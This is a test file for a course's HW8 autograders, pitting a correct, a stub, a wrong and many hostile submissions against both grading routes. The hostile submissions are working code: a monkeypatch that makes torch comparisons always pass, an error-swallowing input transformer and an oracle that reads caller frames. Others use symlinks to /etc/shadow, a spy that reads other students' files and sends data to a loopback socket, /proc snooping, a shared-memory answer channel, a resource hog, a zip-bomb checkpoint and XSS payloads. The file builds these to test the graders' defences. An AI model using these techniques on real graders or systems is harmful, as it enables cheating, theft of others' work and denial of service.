"""Both graders on the real HW8 course: a model student, a stub student, a wrong student and an attack corpus.

The model student is the release with the instructor's solution cells pasted back, the instructor's
kernel_attention.py and a checkpoint trained here in fast mode (the graders run with HW8_FAST=1, so the checkpoint's
validation loss is held to the fast run's threshold; the full threshold is the same code with other numbers). The
wrong student has two functions that return zeros and forgets 1/sqrt(D) in 1(a); every attack is built on it, so an
attack that worked would score above it. Each submission goes through Gradescope's run_autograder (in a temporary
/autograder) and through `grading/autograde.py` (nbgrader), with small timeouts, and both must give the same score.
"""

from __future__ import annotations

import base64
import csv
import html
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

REPO = Path(__file__).resolve().parents[1]

from grading import sandbox  # noqa: E402
from grading.course import load_course  # noqa: E402
from grading.gradescope import build_bundle  # noqa: E402
from grading.harness import load_cases  # noqa: E402

ENV = {**os.environ, "HF_HUB_OFFLINE": "1", "OMP_NUM_THREADS": "1", "HW8_FAST": "1"}
CASE_TIMEOUT = 10                                 # seconds per check in these tests (the course uses 60)
WRONG_FAILS = {"merge_heads", "MultiHeadAttention: cross-attention, padding + causal masks",
               "PerformerAttention with your FavorPositiveFeatures and linear_attention",
               "linear_attention (eq. 2) with a key padding mask",
               "linear_attention (eq. 2) on 65536 queries and keys, without an N x N matrix",
               "3(a)iii linear_attention with positive features, 3-D inputs",
               "3(a)iii linear_attention with a broadcast key padding mask",
               "1(a) attention_weights: softmax(Q K^T / sqrt(D)) of a (10, 16) and a (4, 16) matrix"}
CASES = load_cases(REPO / "grading" / "cases_hw8.py")


def _points(chosen) -> float:
    return sum(c.points for c in CASES if chosen(c))


def _target(c) -> str:
    return getattr(c, "target", "")


# The score each kind of submission must get, from the checks it must fail (point values live in the cases file).
FULL = _points(lambda c: True)
WRONG = FULL - _points(lambda c: c.name in WRONG_FAILS)           # wrong merge_heads, linear_attention, 1(a) scaling
NO_MODULE = FULL - _points(lambda c: _target(c).startswith("kernel_attention:") or c.name in WRONG_FAILS)
NO_SUMMARIZATION = WRONG - _points(lambda c: _target(c).startswith("Summarization.ipynb:")
                                   and c.name not in WRONG_FAILS)
CHECKPOINT_POINTS = _points(lambda c: c.path == "checkpoints/summarizer.pt" if hasattr(c, "path") else False)
QUALITY_POINTS = _points(lambda c: "validation loss" in c.name)
TIMINGS: dict[str, float] = {}


# ------------------------------------------------------------------------------------------------ submissions


def _solution_sources(instructor: Path) -> dict[str, str]:
    nb = nbformat.read(instructor, as_version=4)
    return {c.metadata["nbgrader"]["grade_id"]: re.sub(r"\n?[ \t]*### (BEGIN|END) SOLUTION[^\n]*", "", c.source)
            for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")}


def make_model_student(release: Path, dest: Path, checkpoint: Path) -> Path:
    """The release with every solution cell and written answer taken from the instructor's notebooks."""
    dest.mkdir(parents=True)
    for name in ("Summarization.ipynb", "Visualizing_BERT.ipynb", "Kernel_Attention.ipynb"):
        solutions = _solution_sources(REPO / name)
        nb = nbformat.read(release / name, as_version=4)
        for cell in nb.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            if grade_id in solutions:
                cell.source = solutions[grade_id]
        nbformat.write(nb, dest / name)
    shutil.copy2(REPO / "kernel_attention.py", dest / "kernel_attention.py")
    (dest / "checkpoints").mkdir()
    shutil.copy2(checkpoint, dest / "checkpoints" / "summarizer.pt")
    return dest


def train_fast_checkpoint(path: Path) -> Path:
    """The fast run's model (the same code as the notebook's training cell, fast sizes)."""
    from summarizer.checkpoint import save_checkpoint
    from summarizer.pipeline import build_model, prepare_corpus
    from summarizer.settings import FAST
    from summarizer.train import train_model

    prepared = prepare_corpus(FAST)
    model = build_model(FAST, prepared.tokenizer.get_vocab_size())
    train_model(model, prepared.train, prepared.validation, steps=FAST.steps, batch_size=FAST.batch_size,
                lr=FAST.lr, warmup=FAST.warmup, eval_every=FAST.steps, progress=False, precision="fp32")
    return save_checkpoint(path, model, prepared.tokenizer)


def edit_notebook(folder: Path, name: str, edit) -> None:
    nb = nbformat.read(folder / name, as_version=4)
    edit(nb)
    nbformat.write(nb, folder / name)


def cell(nb, grade_id: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


WRONG_FUNCTIONS = '''

def merge_heads(x):
    """Wrong on purpose: zeros of the right shape."""
    b, h, n, d = x.shape
    return torch.zeros(b, n, h * d, dtype=x.dtype)


def linear_attention(phi_q, phi_k, v, key_padding_mask=None, eps=1e-6):
    """Wrong on purpose: zeros of the right shape."""
    return torch.zeros(*phi_q.shape[:-1], v.shape[-1], dtype=v.dtype)
'''


def make_wrong(model: Path, dest: Path) -> Path:
    shutil.copytree(model, dest)
    path = dest / "kernel_attention.py"
    path.write_text(path.read_text() + WRONG_FUNCTIONS)

    def unscaled(nb):
        code = cell(nb, "q1a_code")
        assert "/ Q.shape[-1] ** 0.5" in code.source
        code.source = code.source.replace("/ Q.shape[-1] ** 0.5", "")
    edit_notebook(dest, "Summarization.ipynb", unscaled)
    return dest


def append_module(folder: Path, code: str) -> None:
    path = folder / "kernel_attention.py"
    path.write_text(path.read_text() + "\n" + code)


MONKEYPATCH = """
import torch as _torch
_torch.allclose = lambda *a, **k: True
_torch.equal = lambda *a, **k: True
_torch.testing.assert_close = lambda *a, **k: None
_torch.isclose = lambda a, b, **k: _torch.ones_like(a, dtype=_torch.bool)
"""

INPUT_TRANSFORMER = """
ip = get_ipython()
ip.input_transformers_post.append(
    lambda lines: ["try:\\n"] + ["    " + line for line in lines] + ["\\nexcept BaseException:\\n    pass\\n"])
"""

FRAME_ORACLE = '''
import gc as _gc
import inspect as _inspect


def merge_heads(x):
    """An oracle: look for the expected output in the callers' frames and in memory."""
    b, h, n, d = x.shape
    for frame in _inspect.stack():
        for name, value in frame.frame.f_locals.items():
            if isinstance(value, torch.Tensor) and tuple(value.shape) == (b, n, h * d) and value is not x:
                return value
    for obj in _gc.get_objects():
        if isinstance(obj, torch.Tensor) and tuple(obj.shape) == (b, n, h * d) and obj.abs().sum() > 0:
            return obj
    return torch.zeros(b, n, h * d)
'''

SPY = '''
import os as _os
import socket as _socket


def _spy():
    """Read another student's work and send it out; with either, merge_heads would be right."""
    found = []
    for path in {paths!r}:
        try:
            found.append(open(path).read())
        except OSError:
            pass
    try:
        with _socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
            s.sendall(b"hidden material")
            found.append("network")
    except OSError:
        pass
    return found


if _spy():
    def merge_heads(x):
        return x.transpose(1, 2).reshape(x.shape[0], x.shape[2], -1)
'''

HOG = '''
import os as _os
import signal as _signal

_signal.signal(_signal.SIGXFSZ, _signal.SIG_IGN)     # a write past the limit fails instead of killing


def _hog():
    for target in ("big.bin", "/tmp/big.bin", _os.path.expanduser("~/big.bin")):
        try:
            with open(target, "wb") as f:
                for _ in range(1024):
                    f.write(b"x" * 2**20)                  # 1 GiB
        except OSError:
            pass
        try:
            with open(target + ".sparse", "wb") as f:
                f.truncate(2 * 2**30)                     # a 2 GiB sparse file
        except OSError:
            pass
    try:
        print("y" * 25 * 2**20)                           # 25 MB on one line
    except OSError:
        pass


_hog()
'''


def build_submissions(release: Path, base: Path, checkpoint: Path, port: int) -> dict[str, Path]:
    """Every submission of the test, by name (folders; links and FIFOs made as the attack needs them)."""
    subs = base / "subs"
    model = make_model_student(release, subs / "model", checkpoint)
    made = {"model": model}
    stub = subs / "stub"
    stub.mkdir()
    for name in ("Summarization.ipynb", "Visualizing_BERT.ipynb", "Kernel_Attention.ipynb", "kernel_attention.py"):
        shutil.copy2(release / name, stub / name)
    made["stub"] = stub
    wrong = make_wrong(model, subs / "wrong")
    made["wrong"] = wrong

    def attack(name: str) -> Path:
        made[name] = subs / name
        shutil.copytree(wrong, made[name])
        return made[name]

    append_module(attack("monkeypatch"), MONKEYPATCH)
    edit_notebook(made["monkeypatch"], "Kernel_Attention.ipynb",
                  lambda nb: nb.cells.insert(0, nbformat.v4.new_code_cell(MONKEYPATCH)))
    edit_notebook(attack("input_transformer"), "Summarization.ipynb",
                  lambda nb: nb.cells.insert(0, nbformat.v4.new_code_cell(INPUT_TRANSFORMER)))
    append_module(attack("frame_oracle"), FRAME_ORACLE)
    folder = attack("symlink_module")
    (folder / "kernel_attention.py").unlink()
    (folder / "kernel_attention.py").symlink_to(REPO / "kernel_attention.py")
    folder = attack("symlink_checkpoint")
    (folder / "checkpoints" / "summarizer.pt").unlink()
    (folder / "checkpoints" / "summarizer.pt").symlink_to("/etc/shadow")
    folder = attack("symlink_notebook")
    (folder / "Summarization.ipynb").unlink()
    (folder / "Summarization.ipynb").symlink_to(REPO / "Summarization.ipynb")
    folder = attack("fifo_checkpoint")
    (folder / "checkpoints" / "summarizer.pt").unlink()
    os.mkfifo(folder / "checkpoints" / "summarizer.pt")
    folder = attack("hardlink_module")
    outside = base / "instructor_copy.py"                    # a file outside the upload, same file system
    shutil.copy2(REPO / "kernel_attention.py", outside)
    (folder / "kernel_attention.py").unlink()
    os.link(outside, folder / "kernel_attention.py")
    append_module(attack("hangs_on_import"), "while True:          # at import\n    pass\n")
    others = [str(model / "kernel_attention.py"), str(REPO / "kernel_attention.py")]
    append_module(attack("spy"), SPY.format(paths=others, port=port))
    append_module(attack("resource_hog"), HOG)

    def tamper(nb):
        cell(nb, "test_1a").metadata["nbgrader"]["checksum"] = "0" * 32      # edited checksum
        cell(nb, "test_1f").source = "assert True"                          # weakened test
        ids = [c.get("id") for c in nb.cells]
        for c, new in zip(nb.cells, ids[1:] + ids[:1]):                      # every cell id swapped
            c["id"] = new
        cell(nb, "q1c_code").metadata["nbgrader"]["grade_id"] = "q1c_mine"   # a solution cell renamed: its points go
        nb.cells.append(nbformat.from_dict(json.loads(json.dumps(cell(nb, "test_1a")))))   # a duplicated test cell
    edit_notebook(attack("tampered_cells"), "Summarization.ipynb", tamper)
    build_hostile(wrong, model, subs, checkpoint, made)
    return made


# ------------------------------------------------------------------------------------------------ malformed and hostile
# Graded in the same batch as the honest students: each may cost only its own points (issue #33).

IPC_WRITER = """
import ctypes as _ct
_libc = _ct.CDLL(None, use_errno=True)
_libc.shmat.restype = _ct.c_void_p
_id = _libc.shmget(0x48573038, 4096, 0o1666)        # IPC_CREAT | 0666: outlives this process unless namespaced
if _id >= 0:
    _ct.memmove(_libc.shmat(_id, None, 0), b"hw8-shared-answer", 17)
"""

IPC_READER = """
import ctypes as _ct
_libc = _ct.CDLL(None, use_errno=True)
_libc.shmat.restype = _ct.c_void_p
_id = _libc.shmget(0x48573038, 0, 0)
if _id >= 0 and _ct.string_at(_libc.shmat(_id, None, 0o10000), 17) == b"hw8-shared-answer":
    def merge_heads(x):
        return x.transpose(1, 2).reshape(x.shape[0], x.shape[2], -1)
"""

PROC_SPY = """
import os as _os
_seen = []
for _pid in set(_os.listdir("/proc")) - {str(_os.getpid()), "self", "thread-self"}:     # the others' command lines
    try:
        _seen.append(open(f"/proc/{_pid}/cmdline", "rb").read())
    except OSError:
        pass
if any(b"nbgrader" in c or b"autograde.py" in c for c in _seen):       # the grader's and other students' commands
    def merge_heads(x):
        return x.transpose(1, 2).reshape(x.shape[0], x.shape[2], -1)
"""

REPLY_BOMB = """
import base64 as _b64, os as _os, struct as _st, sys as _sys
_frame = _b64.b64decode({frame!r})
_os.write(int(_sys.argv[1]), _st.pack(">Q", len(_frame)) + _frame)      # a reply before the real one
"""


def deflated_zeros(size: int) -> bytes:
    """Raw deflate of `size` zero bytes (about size / 1000 bytes), built in 1 MiB steps."""
    import zlib
    packer, chunk = zlib.compressobj(9, zlib.DEFLATED, -15), bytes(2**20)
    return b"".join([*(packer.compress(chunk) for _ in range(size // 2**20)), packer.flush()])


def _zip_with_raw_member(deflated: bytes, size: int) -> bytes:
    """A two-member zip written by hand: archive/data.pkl (stored) and archive/data/0 (deflated, `size` bytes)."""
    import struct
    import zlib
    members, offset, central = [], 0, b""
    pickle = b"\x80\x02}q\x00."
    for name, data, method, crc, usize in ((b"archive/data.pkl", pickle, 0, zlib.crc32(pickle), len(pickle)),
                                           (b"archive/data/0", deflated, 8, 0, size)):
        head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0, crc, len(data), usize, len(name), 0)
        members.append(head + name + data)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0, crc, len(data), usize,
                               len(name), 0, 0, 0, 0, 0, offset) + name
        offset += len(head) + len(name) + len(data)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 2, 2, len(central), offset, 0)
    return b"".join(members) + central + end


def build_hostile(wrong: Path, model: Path, subs: Path, checkpoint: Path, made: dict[str, Path]) -> None:
    def attack(name: str, base: Path = wrong) -> Path:
        made[name] = subs / name
        shutil.copytree(base, made[name])
        return made[name]

    def junk_types(nb):                                   # every field the stager reads, of an unexpected type
        raw = json.loads(nbformat.writes(nb))
        raw["cells"] += [42, "a string cell", {"cell_type": "code"}, {"cell_type": ["code"], "source": "x"},
                         {"cell_type": "code", "source": 7, "outputs": {}},
                         {"cell_type": "code", "source": "1", "metadata": {"nbgrader": "q1a_code"},
                          "outputs": [None, {"output_type": "display_data", "data": []}, {"output_type": 5}]},
                         {"cell_type": "markdown", "source": ["a", 3], "metadata": []},
                         {"cell_type": "code", "source": "2",
                          "metadata": {"nbgrader": {"grade_id": ["q1a_code"], "solution": "yes", "points": "9"}}}]
        raw["metadata"] = "not a dict"
        return raw
    folder = attack("json_types")
    raw = junk_types(nbformat.read(folder / "Kernel_Attention.ipynb", as_version=4))
    (folder / "Kernel_Attention.ipynb").write_text(json.dumps(raw))
    folder = attack("many_cells")
    nb = json.loads((folder / "Summarization.ipynb").read_text())
    nb["cells"] += [{"cell_type": "markdown", "metadata": {}, "source": "x"}] * 150_000
    (folder / "Summarization.ipynb").write_text(json.dumps(nb))
    folder = attack("huge_notebook")
    nb = json.loads((folder / "Visualizing_BERT.ipynb").read_text())
    nb["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "y" * (45 * 2**20)})
    (folder / "Visualizing_BERT.ipynb").write_text(json.dumps(nb))

    def scripts(nb):
        answer = next(c for c in nb.cells
                      if c.cell_type == "markdown" and c.metadata.get("nbgrader", {}).get("solution"))
        answer.source = ("My answer <script>window.HW8_XSS = 1</script><img src=x onerror=\"window.HW8_XSS = 2\"> "
                         "[see](javascript:window.HW8_XSS=5)")
        nb.cells.append(nbformat.v4.new_code_cell("1", outputs=[nbformat.v4.new_output(
            "display_data", data={"text/html": "<script>window.HW8_XSS = 3</script>",
                                  "application/javascript": "window.HW8_XSS = 4", "text/plain": "plain"})]))
    edit_notebook(attack("scripts"), "Visualizing_BERT.ipynb", scripts)

    def markdown_grade_id(nb):           # a markdown cell with the grade id of the (correct) 1(c) code cell, first
        code = cell(nb, "q1c_code")
        fake = nbformat.v4.new_markdown_cell("raise ValueError('not the solution')",
                                             metadata={"nbgrader": dict(code.metadata["nbgrader"])})
        nb.cells.insert(nb.cells.index(code), fake)
    edit_notebook(attack("markdown_grade_id"), "Summarization.ipynb", markdown_grade_id)
    append_module(attack("ipc_a_writer"), IPC_WRITER)
    append_module(attack("ipc_b_reader"), IPC_READER)
    append_module(attack("proc_spy"), PROC_SPY)
    bomb = _zip_with_raw_member(deflated_zeros(2**31), 2**31)                  # 2 GiB inflated from ~2 MB
    append_module(attack("reply_bomb"), REPLY_BOMB.format(frame=base64.b64encode(bomb).decode()))
    (attack("checkpoint_bomb") / "checkpoints" / "summarizer.pt").write_bytes(bomb)
    untrained_checkpoints(attack("untrained_short"), attack("untrained_tokenizer"))
    # zips (the nbgrader route only: Gradescope unpacks uploads itself)
    folder = subs / "zip_inside_folder"
    folder.mkdir()
    write_zip_of(model, folder / "hw8_submission.zip")
    made["zip_inside_folder"] = folder
    write_zip_of(wrong, subs / "zip_bad_method.zip", broken="kernel_attention.py")
    made["zip_bad_method"] = subs / "zip_bad_method.zip"


def write_zip_of(folder: Path, dest: Path, broken: str | None = None) -> None:
    """Zip a folder; the member `broken` gets a compression method number Python's zipfile refuses (99)."""
    with zipfile.ZipFile(dest, "w") as zf:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                zf.write(path, path.relative_to(folder).as_posix())
    if broken:
        data = bytearray(dest.read_bytes())
        name = broken.encode()
        for signature, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
            start = 0
            while (start := data.find(signature, start)) >= 0:
                size_at = 26 if signature == b"PK\x03\x04" else 28
                length = int.from_bytes(data[start + size_at:start + size_at + 2], "little")
                header = 30 if signature == b"PK\x03\x04" else 46
                if bytes(data[start + header:start + header + length]) == name:
                    data[start + at:start + at + 2] = (99).to_bytes(2, "little")
                start += 4
        dest.write_bytes(bytes(data))


def untrained_checkpoints(short: Path, tokenizer: Path) -> None:
    """An untrained model whose config makes every summary 2 tokens long, and one with a tokenizer of its own."""
    from summarizer.checkpoint import save_checkpoint
    from summarizer.data import load_corpus
    from summarizer.model import Summarizer, SummarizerConfig
    from summarizer.settings import FAST
    from summarizer.tokenizer import train_tokenizer

    train = load_corpus(max_examples={"train": FAST.max_train, "validation": 1, "test": 1}, fast=False)["train"]
    tok = train_tokenizer(list(train["article"]), FAST.vocab_size, lowercase=False)     # not the course's
    model = Summarizer(SummarizerConfig(vocab_size=tok.get_vocab_size(), d_model=32, n_heads=2, n_encoder_layers=1,
                                        n_decoder_layers=1, d_ff=64, max_target_len=2))
    save_checkpoint(short / "checkpoints" / "summarizer.pt", model, tok)
    model = Summarizer(SummarizerConfig(vocab_size=tok.get_vocab_size(), d_model=32, n_heads=2, n_encoder_layers=1,
                                        n_decoder_layers=1, d_ff=64))
    save_checkpoint(tokenizer / "checkpoints" / "summarizer.pt", model, tok)


# The score each submission must get on both routes (and a message that must explain it).
EXPECTED = {
    "model": (FULL, ""),
    "stub": (0, "NotImplementedError"),
    "wrong": (WRONG, "values differ"),
    "monkeypatch": (WRONG, "values differ"),
    "input_transformer": (WRONG, "values differ"),
    "frame_oracle": (WRONG, "values differ"),
    "symlink_module": (NO_MODULE, "kernel_attention.py is a symbolic link: refused"),
    "symlink_checkpoint": (WRONG - CHECKPOINT_POINTS, "summarizer.pt is a symbolic link: refused"),
    "symlink_notebook": (NO_SUMMARIZATION, "Summarization.ipynb is a symbolic link: refused"),
    "fifo_checkpoint": (WRONG - CHECKPOINT_POINTS, "not a regular file"),
    "hardlink_module": (NO_MODULE, "hard link"),
    "hangs_on_import": (NO_MODULE, "loading kernel_attention did not finish"),
    "spy": (WRONG, "values differ"),
    "resource_hog": (WRONG, "values differ"),
    "tampered_cells": (WRONG - 1, "q1c_code"),
    "json_types": (WRONG, "values differ"),
    "many_cells": (NO_SUMMARIZATION, "more than 2000"),
    "huge_notebook": (WRONG, "values differ"),
    "scripts": (WRONG, "values differ"),
    "markdown_grade_id": (WRONG, "values differ"),
    "ipc_a_writer": (WRONG, "values differ"),
    "ipc_b_reader": (WRONG, "values differ"),
    "proc_spy": (WRONG, "values differ"),
    "reply_bomb": (NO_MODULE, "unreadable reply"),
    "checkpoint_bomb": (WRONG - CHECKPOINT_POINTS, "compressed torch.save archive"),
    "untrained_short": (WRONG - CHECKPOINT_POINTS, "outside what the grader runs"),
    "untrained_tokenizer": (WRONG - QUALITY_POINTS, "its tokenizer is not the course's"),
    "zip_inside_folder": (FULL, "hw8_submission.zip (inside the upload) was unpacked and graded"),
    "zip_bad_method": (NO_MODULE, "kernel_attention.py could not be unpacked"),
}
# Uploads that only the nbgrader route receives as they are (Gradescope unpacks a zip upload itself).
NBGRADER_ONLY = {"zip_inside_folder", "zip_bad_method"}


# ------------------------------------------------------------------------------------------------ running both graders


def course_file_with_test_timeouts(base: Path) -> Path:
    """The real course with this test's timeouts (the repository is the instructor source, build files in base)."""
    text = (REPO / "grading" / "course.toml").read_text()
    text = re.sub(r'^root = .*$', f'root = "{REPO}"', text, flags=re.M)
    text = re.sub(r'^build_dir = .*$', f'build_dir = "{base / "build"}"', text, flags=re.M)
    text = re.sub(r'^case_timeout = .*$', f"case_timeout = {CASE_TIMEOUT}", text, flags=re.M)
    text = re.sub(r'^submission_timeout = .*$', "submission_timeout = 120", text, flags=re.M)
    path = base / "course.toml"
    path.write_text(text)
    return path


def gradescope_run(bundle: Path, root: Path, submission: Path, uid: int, limits: dict | None = None) -> dict:
    """run_autograder on one submission in a temporary /autograder; with `limits` (gradescope_check.contained's
    memory_bytes, cpu, timeout) inside an emulated Gradescope container, whose figures come back as "_run"."""
    (root / "results").mkdir(parents=True)
    with zipfile.ZipFile(bundle) as zf:
        zf.extractall(root / "source")
    _copy_upload(submission, root / "submission")
    env = {**ENV, "HW8_AUTOGRADER_ROOT": str(root), "HW8_PYTHON": sys.executable, "HW8_SANDBOX_UID": str(uid),
           "HW8_SANDBOX_EXTRA_HIDE": str(REPO)}
    started = time.monotonic()
    run = None
    if limits:
        from grading.gradescope_check import contained
        run = contained(f"bash {root / 'source' / 'run_autograder'}", env=env, **limits)
        assert run["returncode"] == 0, run["output"]
    else:
        done = subprocess.run(["bash", str(root / "source" / "run_autograder")], cwd=root, env=env,
                              capture_output=True, text=True, timeout=600)
        assert done.returncode == 0, done.stderr[-3000:]
    results = json.loads((root / "results" / "results.json").read_text())
    results["_seconds"], results["_run"] = time.monotonic() - started, run
    return results


def _copy_upload(src: Path, dest: Path) -> None:
    """Copy an upload as Gradescope would hand it over: links stay links, a FIFO stays a FIFO, and a hard link
    to a file outside the upload stays a hard link to it."""
    for folder, dirs, files in os.walk(src):
        rel = Path(folder).relative_to(src)
        (dest / rel).mkdir(parents=True, exist_ok=True)
        for name in files + [d for d in dirs if (Path(folder) / d).is_symlink()]:
            path, target = Path(folder) / name, dest / rel / name
            info = path.lstat()
            if path.is_symlink():
                target.symlink_to(os.readlink(path))
            elif not path.is_file():
                os.mkfifo(target)
            elif info.st_nlink > 1:
                os.link(path, target)
            else:
                shutil.copy2(path, target)


class Listener:
    """A loopback TCP server in the grader's network namespace that records every connection it gets."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port, self.connections, self.stop = self.sock.getsockname()[1], [], False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                conn, addr = self.sock.accept()
            except OSError:
                continue
            self.connections.append(addr)
            conn.close()

    def close(self) -> None:
        self.stop = True
        self.thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def hw8(real_release):
    base = Path(tempfile.mkdtemp(prefix="hw8-grading-real-"))        # 0700: the sandbox uid cannot read it
    listener = Listener()
    try:
        course_file = course_file_with_test_timeouts(base)
        course = load_course(course_file)
        release = base / "build" / "release"                  # where autograde (course.build_dir) looks for it
        shutil.copytree(real_release[0], release)
        started = time.monotonic()
        checkpoint = train_fast_checkpoint(base / "fast_checkpoint.pt")
        TIMINGS["fast checkpoint"] = time.monotonic() - started
        subs = build_submissions(release, base, checkpoint, listener.port)
        bundle = build_bundle(course, base / "gradescope")
        # The two routes are independent (their own folders, sandbox uids 61183+ and 61282+): they run at once, as
        # the mini course's corpus does in tests/test_grading.py.
        started = time.monotonic()
        autograde = subprocess.Popen([sys.executable, "-m", "grading.autograde", str(base / "subs"),
                                      "--course", str(course_file), "--out", str(base / "autograde"), "--jobs", "2"],
                                     cwd=REPO, env=ENV, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        with ThreadPoolExecutor(max_workers=2) as pool:
            futures = {name: pool.submit(gradescope_run, bundle, base / "gs" / name, folder, uid)
                       for uid, (name, folder) in enumerate(subs.items(), start=sandbox.SANDBOX_UID + 100)
                       if name not in NBGRADER_ONLY}
            gradescope = {name: f.result() for name, f in futures.items()}
        TIMINGS["gradescope route, all submissions, 2 at a time (beside the nbgrader route)"] = \
            time.monotonic() - started
        log, _ = autograde.communicate(timeout=1200)
        TIMINGS["both routes, all submissions, at once"] = time.monotonic() - started
        with (base / "autograde" / "scores.csv").open() as f:
            rows = {row["student"]: row for row in csv.DictReader(f)}
        yield {"base": base, "course": course, "rows": rows, "log": log, "rc": autograde.returncode, "bundle": bundle,
               "gradescope": gradescope, "listener": listener, "subs": subs}
    finally:
        listener.close()
        shutil.rmtree(base, ignore_errors=True)


def _failed(tests: list[dict]) -> set[str]:
    return {t["name"] for t in tests if t["score"] < t["max_score"]}


def test_cases_decide_every_notebook_grade_cell():
    cases = load_cases(REPO / "grading" / "cases_hw8.py")
    from grading.autograde import check_cell_points
    from grading.nbgrader_course import make_course_dir
    course = load_course(REPO / "grading" / "course.toml")
    with tempfile.TemporaryDirectory() as tmp:
        make_course_dir(course, Path(tmp) / "course", [])
        check_cell_points(course, Path(tmp) / "course", cases)          # raises if a cell's points differ
        broken = [c for c in cases if getattr(c, "nbgrader_cell", None) != "test_1f"]
        with pytest.raises(ValueError, match="test_1f"):
            check_cell_points(course, Path(tmp) / "course", broken)


def test_both_routes_give_every_submission_its_expected_score(hw8):
    assert hw8["rc"] == 0, hw8["log"][-4000:]
    assert set(hw8["rows"]) == set(EXPECTED)
    for name, (score, message) in EXPECTED.items():
        row = hw8["rows"][name]
        if name in NBGRADER_ONLY:
            assert float(row["total"]) == score and message in row["messages"], (name, row["messages"][:2000])
            continue
        gs = hw8["gradescope"][name]
        explain = (name, sorted(_failed(gs["tests"])), [(t["name"], t["output"][:200]) for t in gs["tests"]
                                                            if t["score"] < t["max_score"]], row["messages"][:2000])
        assert gs["score"] == score, explain
        assert float(row["total"]) == score and float(row["max"]) == FULL, explain
        assert sum(t["max_score"] for t in gs["tests"]) == FULL
        if message:
            assert message in json.dumps(gs) and message in row["messages"], (name, message, explain)
    assert _failed(hw8["gradescope"]["wrong"]["tests"]) == WRONG_FAILS
    for name in ("monkeypatch", "input_transformer", "frame_oracle", "spy", "resource_hog"):
        assert _failed(hw8["gradescope"][name]["tests"]) == WRONG_FAILS, name


def test_the_same_check_names_and_verdicts_on_both_routes(hw8):
    for name in set(EXPECTED) - NBGRADER_ONLY:
        tests = hw8["gradescope"][name]["tests"]
        row = hw8["rows"][name]
        assert [t["name"] for t in tests] == list(row)[3:3 + len(tests)]
        assert [float(row[t["name"]]) for t in tests] == [t["score"] for t in tests], name


def test_isolation_no_network_no_other_students_no_secrets(hw8):
    assert hw8["listener"].connections == [], "a submission reached the grader's network"
    every_output = json.dumps(hw8["gradescope"]) + json.dumps(hw8["rows"])
    assert "root:" not in every_output and "hidden material" not in every_output     # /etc/shadow, the spy
    if sandbox.namespaces_work():
        assert "private mount, network, IPC and PID namespaces" in hw8["gradescope"]["model"]["output"]


def hidden_lines() -> list[str]:
    """Lines of the trusted checks (their inputs and the 1(f) preamble) that feedback must never show."""
    cases = (REPO / "grading" / "cases_hw8.py").read_text()
    lines = [line.strip() for line in cases.split("FAKE_SUMMARIZE = ")[1].split('"""')[1].splitlines()
             if len(line.strip()) > 30]
    lines += [line.strip() for line in cases.split("\nCASES = [")[1].split("\n]")[0].splitlines()
              if line.strip().startswith("lambda g:") and len(line.strip()) > 30]
    assert len(lines) > 20
    return lines


def test_feedback_shows_verdicts_never_hidden_tests(hw8):
    secrets = hidden_lines()
    feedback = hw8["base"] / "autograde" / "feedback"
    for name in EXPECTED:
        pages = sorted((feedback / name).glob("*.html"))
        assert {p.name for p in pages} >= {"trusted_checks.html", "Kernel_Attention.html"}, name
        for page in pages:
            text = html.unescape(page.read_text())
            leaked = [line for line in secrets if line in text]
            assert not leaked, (name, page.name, leaked[:3])
    text = html.unescape((feedback / "wrong" / "Kernel_Attention.html").read_text())
    assert "Graded by the trusted checks" in text and "first at index" in text
    gs = json.dumps(hw8["gradescope"])
    assert not [line for line in secrets if line in gs]


def test_malformed_and_hostile_submissions_cost_only_themselves(hw8):
    """The whole batch ends with a row per student, and the honest students keep exactly their scores (asserted for
    every submission above); here what each hostile one was told on the nbgrader route."""
    rows = hw8["rows"]
    assert "carries the grade id q1c_code" in rows["markdown_grade_id"]["messages"]
    assert "1(c) shift_matrix" not in rows["markdown_grade_id"]["messages"]
    for honest in ("model", "wrong"):
        assert not re.search("edited|changed|plain text|could not", rows[honest]["messages"]), rows[honest]["messages"]
    assert "could not be read and were left out" in rows["json_types"]["messages"]
    assert "larger than 40 MiB" in rows["huge_notebook"]["messages"]
    for name in ("many_cells", "huge_notebook", "json_types", "scripts"):
        assert (hw8["base"] / "autograde" / "feedback" / name / "trusted_checks.html").is_file(), name
    gs = hw8["gradescope"]
    assert gs["checkpoint_bomb"]["_seconds"] < gs["model"]["_seconds"] + 30


class _Scripts(HTMLParser):
    """Collects what a page would run: <script> bodies and on* attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.code, self.in_script = [], False

    def handle_starttag(self, tag, attrs):
        self.in_script = tag == "script"
        self.code += [value or "" for key, value in attrs if key.startswith("on") or "javascript:" in (value or "")]

    def handle_endtag(self, tag):
        self.in_script = False

    def handle_data(self, data):
        if self.in_script:
            self.code.append(data)


def test_feedback_pages_run_no_student_script(hw8):
    """A written answer's <script> and onerror and a cell's HTML / JavaScript outputs reach no feedback page as code
    (nbconvert sanitises them; the stager drops HTML and JavaScript outputs), and the graded notebook formgrader shows
    has no such output either."""
    pages = sorted((hw8["base"] / "autograde" / "feedback" / "scripts").glob("*.html"))
    assert any("Visualizing_BERT" in p.name for p in pages)
    for page in pages:
        parser = _Scripts()
        parser.feed(page.read_text())
        assert not [c for c in parser.code if "HW8_XSS" in c], page.name
    page = next(p for p in pages if "Visualizing_BERT" in p.name).read_text()
